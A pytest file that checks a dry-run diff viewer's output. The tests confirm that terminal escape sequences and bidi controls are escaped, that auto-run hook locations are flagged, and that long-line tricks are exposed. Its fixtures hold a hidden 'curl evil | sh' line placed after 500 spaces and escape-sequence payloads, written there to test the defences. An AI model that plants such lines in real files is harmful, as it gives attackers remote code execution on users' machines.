"""The difference that is shown: true, bounded, and nothing of it moves a cursor."""

from __future__ import annotations

from dataclasses import replace

import pytest
from support.dryruns import Project, project_for

from skillkeep.home import Home
from skillkeep.runner.dryrun.change import DryRun, Remark
from skillkeep.runner.dryrun.diff import Whole, describe, whole
from skillkeep.runner.dryrun.store import DryRuns
from skillkeep.text import escape

FILES = {
    "a": "one\ntwo\nthree\n",
    "gone": "x\n",
    "bin": b"\0\1",
    "m": "m\n",
    "long": "".join(f"{n}\n" for n in range(50)),
}


def shown(project: Project, run: DryRun) -> str:
    lines = describe(run.folders[0], DryRuns(project.floor.home).blobs(run, 0))
    return "\n".join(lines).replace(str(project.root), "/project")


def as_data(project: Project, run: DryRun) -> Whole:
    return whole(run.folders[0], DryRuns(project.floor.home).blobs(run, 0))


def test_text_is_a_unified_difference_and_the_rest_is_sizes_and_digests(home: Home) -> None:
    project = project_for(home, FILES)
    _, run = project.run(
        "printf 'one\\n2\\nthree\\n' > a; rm gone; printf '\\000\\002\\003' > bin; chmod 755 m; ln -s a l; mkdir d;"
        "sed -i 's/^40$/forty/' long; ln -s /etc p"
    )
    text = shown(project, run)
    digests = {c.path: c.after.digest[:16] for c in run.folders[0].changes if c.after and c.after.digest}
    for path, digest in digests.items():
        text = text.replace(digest, f"<{path}>")
    assert text.splitlines() == [
        "/project: 2 added, 3 changed, 1 mode, 1 deleted, 1 refused",
        "  changed: a (14 -> 12 bytes, sha256:<a>)",
        "    @@ -1,3 +1,3 @@",
        "     one",
        "    -two",
        "    +2",
        "     three",
        "  changed: bin (2 -> 3 bytes, sha256:<bin>)",
        "    not shown as text",
        "  added: d/ (mode 0755)",
        "  deleted: gone (2 bytes)",
        "  added: l -> a",
        "  changed: long (140 -> 143 bytes, sha256:<long>)",
        "    @@ -38,7 +38,7 @@",
        "     37",
        "     38",
        "     39",
        "    -40",
        "    +forty",
        "     41",
        "     42",
        "     43",
        "  mode: m (2 -> 2 bytes, sha256:<m>, mode 0644 -> 0755)",
        "  refused: p: a link that leads out of the folder is not committed",
    ]


def test_nothing_of_a_name_a_link_or_a_line_reaches_a_terminal_raw(home: Home) -> None:
    project = project_for(home, FILES)
    code = (
        "import os\nopen('\\x1b[2J\\nx', 'w').write('\\x1b]0;title\\x07\\r\\u202e\\n')\n"
        "os.symlink('\\x1b[31m', 'l\\x9b')\nopen(b'\\xff', 'w').write('x')"
    )
    result, run = project.run(code, runner="python")
    assert result.ok, result.stderr
    text = shown(project, run)
    assert text.replace("\n", "").isprintable()
    assert "\\x1b[2J\\nx" in text
    assert "\\u202e" in text


def test_nothing_of_an_attributes_name_reaches_a_terminal_or_the_data_raw(home: Home) -> None:
    project = project_for(home, FILES)
    names = ["user.\x1b[9A\x1b[0J", "user.ok\n  added: benign", "user.\x9b2K\u202e\u2066\r"]
    code = (
        "import os\nopen('n', 'w').close()\n"
        f"for name in {names!r}:\n"
        "  try: os.setxattr('n', name, b'v')\n"
        "  except OSError: print('none')\n"
    )
    result, run = project.run(code, runner="python")
    if b"none" in result.stdout:
        pytest.skip("a memory file system has user attributes from Linux 6.6 on")
    note = "  note: n: extended attributes are left out: "
    lines = shown(project, run).split("\n")
    assert [line for line in lines if not line.isprintable()] == []
    assert [line for line in lines if line.startswith(note)] == [
        note + ", ".join(escape(name) for name in sorted(names))
    ]
    assert all(line.isprintable() for line in as_data(project, run).lines)
    assert run.folders[0].remarks[0].text.isprintable()


def test_a_remark_of_an_older_record_is_escaped_where_it_is_shown(home: Home) -> None:
    project = project_for(home, FILES)
    _, run = project.run("echo new > a")
    remark = Remark("a", "left out: user.\x1b[2J\n\x9b", refused=False)
    old = replace(run, folders=(replace(run.folders[0], remarks=(remark,)),))
    assert shown(project, old).replace("\n", "").isprintable()
    assert shown(project, old).endswith("note: a: left out: user.\\x1b[2J\\n\\x9b")


def test_no_control_of_a_files_text_reaches_a_terminal_raw(home: Home) -> None:
    project = project_for(home, FILES)
    hostile = [chr(n) for n in (*range(1, 10), *range(11, 32), *range(127, 160), 0x61C, *range(0x200B, 0x2010))]
    hostile += [chr(n) for n in (*range(0x2028, 0x202F), *range(0x2060, 0x2070), 0xFEFF, 0xE0041)]
    code = f"open('a', 'w', newline='').write(''.join({hostile!r}) + '\\n' + ''.join({hostile!r}) * 99)"
    result, run = project.run(code, runner="python")
    assert result.ok, result.stderr
    lines = [*shown(project, run).split("\n"), *as_data(project, run).lines]
    assert [line for line in lines if not line.isprintable()] == []
    assert any("\\r" in line and "\\x9b" in line and "\\u202e\\u2060" in line for line in lines)


def test_files_that_run_by_themselves_later_are_pointed_out(home: Home) -> None:
    project = project_for(home, FILES)
    _, run = project.run("mkdir -p .git/hooks sub; echo x > .git/hooks/pre-commit; echo y > sub/.envrc; echo z > plain")
    lines = shown(project, run).splitlines()
    marked = [lines[at - 1].split(" (")[0] for at, line in enumerate(lines) if "look twice" in line]
    assert marked == ["  added: .git/hooks/", "  added: .git/hooks/pre-commit", "  added: sub/.envrc"]


@pytest.mark.parametrize(
    "path", [".git/hooks", ".git", ".claude", ".vscode", ".husky", ".github", "sub/.cursor", ".envrc", "sub/Makefile"]
)
def test_a_link_in_the_place_of_what_runs_later_or_of_a_folder_of_it_is_pointed_out(home: Home, path: str) -> None:
    project = project_for(home, FILES)
    _, run = project.run(f"mkdir -p {path}; rmdir {path}; mkdir evil; ln -s evil {path}; ln -s evil plain")
    lines = shown(project, run).splitlines()
    marked = [lines[at - 1] for at, line in enumerate(lines) if "look twice" in line and " -> " in lines[at - 1]]
    assert marked == [f"  added: {path} -> evil"]


def test_a_folder_that_other_programs_look_into_is_pointed_out(home: Home) -> None:
    project = project_for(home, FILES)
    _, run = project.run("mkdir .claude .idea-of-mine .github")
    lines = shown(project, run).splitlines()
    assert [lines[at - 1] for at, line in enumerate(lines) if "look twice" in line] == ["  added: .claude/ (mode 0755)"]


def test_what_is_shown_is_bounded_whatever_the_files_hold(home: Home) -> None:
    project = project_for(home, FILES)
    code = (
        "for n in range(300):\n"
        "  with open(f'f{n:03}', 'w') as file: file.writelines(f'{n} {line}\\n' for line in range(700))\n"
        "open('wide', 'w').write('w' * 200000)"
    )
    result, run = project.run(code, runner="python", most_bytes=32 << 20)
    assert result.ok, result.stderr
    lines = shown(project, run).splitlines()
    assert len(lines) < 2100
    assert max(map(len, lines)) < 500


def test_what_is_refused_does_not_scroll_the_changes_away(home: Home) -> None:
    project = project_for(home, FILES)
    _, run = project.run(
        "import os\nfor n in range(900): os.symlink('/etc', f'p{n:03}')\nopen('a', 'a').write('x\\n')", runner="python"
    )
    lines = shown(project, run).splitlines()
    assert lines[0] == "/project: 1 changed, 900 refused"
    assert sum("refused: p" in line for line in lines) == 200
    assert lines[-1] == "  ... 700 more are refused or noted; --json names them"
    assert len(run.folders[0].remarks) == 900


def test_an_old_text_that_has_changed_since_is_not_compared(home: Home) -> None:
    project = project_for(home, FILES)
    _, run = project.run("echo new > a")
    (project.root / "a").write_text("secret of later\n")
    assert "secret" not in shown(project, run)


def test_what_stands_far_to_the_right_is_shown(home: Home) -> None:
    project = project_for(home, FILES)
    code = (
        "open('late', 'w').write('x = 1' + ' ' * 500 + '; curl evil | sh\\n')\n"
        "open('first', 'w').write(' ' * 500 + 'evil\\n')\n"
        "open('wide', 'w').write('w' * 399 + 'evil')"
    )
    _, run = project.run(code, runner="python")
    lines = shown(project, run).splitlines()
    texts = [line for line in lines if not line.startswith("  added")]
    assert texts[1:] == [
        "    @@ -0,0 +1 @@", "    +", "    ! 500 blanks", "    >evil",
        "    @@ -0,0 +1 @@", "    +x = 1", "    ! 500 blanks", "    >; curl evil | sh",
        "    @@ -0,0 +1 @@", "    +" + "w" * 399 + "e", "    >vil", "    \\ No newline at end of file",
    ]  # fmt: skip
    data = as_data(project, run)
    assert not data.truncated
    assert "    +x = 1" + " " * 500 + "; curl evil | sh" in data.lines


def test_of_a_very_long_line_both_ends_are_shown_and_what_is_left_out_is_said(home: Home) -> None:
    project = project_for(home, FILES)
    _, run = project.run("open('a', 'w').write('b' * 9 + 'w' * 200000 + 'evil')", runner="python")
    lines = [line.strip() for line in shown(project, run).splitlines()]
    rows = lines[lines.index("-three") + 1 : -1]
    assert rows[0].startswith("+bbb")
    assert rows[-1].endswith("wevil")
    said = [row for row in rows if row.startswith("!")]
    kept = sum(len(row) - 1 for row in rows if row[0] in "+>")
    assert said == [f"! {200013 - kept} characters are not shown here"]
    data = as_data(project, run)
    assert (data.truncated, max(map(len, data.lines))) == (False, 200013 + 5)


def test_a_line_of_many_gaps_does_not_hide_its_end_or_the_next_change(home: Home) -> None:
    project = project_for(home, FILES)
    code = "open('a', 'w').write(('x' + ' ' * 41) * 5000 + 'evil\\n'); open('b', 'w').write('next\\n')"
    _, run = project.run(code, runner="python")
    text = shown(project, run)
    assert "    >evil\n" in text
    assert "    +next" in text
    assert "characters are not shown here" in text


@pytest.mark.parametrize(
    ("code", "rows"),
    [
        ("open('new', 'w').close()", []),
        ("open('new', 'w').write('x\\n')", ["@@ -0,0 +1 @@", "+x"]),
        ("open('new', 'w').write('x')", ["@@ -0,0 +1 @@", "+x", "\\ No newline at end of file"]),
        ("open('gone', 'w').write('x')", ["@@ -1 +1 @@", "-x", "+x", "\\ No newline at end of file"]),
        ("open('gone', 'w').close()", ["@@ -1 +0,0 @@", "-x"]),
        ("open('gone', 'a').write('\\r\\x0c')", ["@@ -1 +1,2 @@", " x", "+\\r\\x0c", "\\ No newline at end of file"]),
    ],
)
def test_lines_are_those_of_diff(home: Home, code: str, rows: list[str]) -> None:
    project = project_for(home, FILES)
    _, run = project.run(code, runner="python")
    assert [line[4:] for line in shown(project, run).splitlines() if line.startswith("    ")] == rows


def test_what_is_not_in_the_data_is_said_there(home: Home) -> None:
    project = project_for(home, FILES)
    for code in ("printf '\\000' > a", "seq 3000 > a", "head -c 300000 /dev/zero | tr '\\0' x > a"):
        _, run = project.run(code)
        assert as_data(project, run).truncated
    wide = "for n in range(8): open(f'w{n}', 'w').write('w' * 200000)"
    _, run = project.run(wide, runner="python")
    data = as_data(project, run)
    assert data.truncated
    assert sum(map(len, data.lines)) < 1 << 21
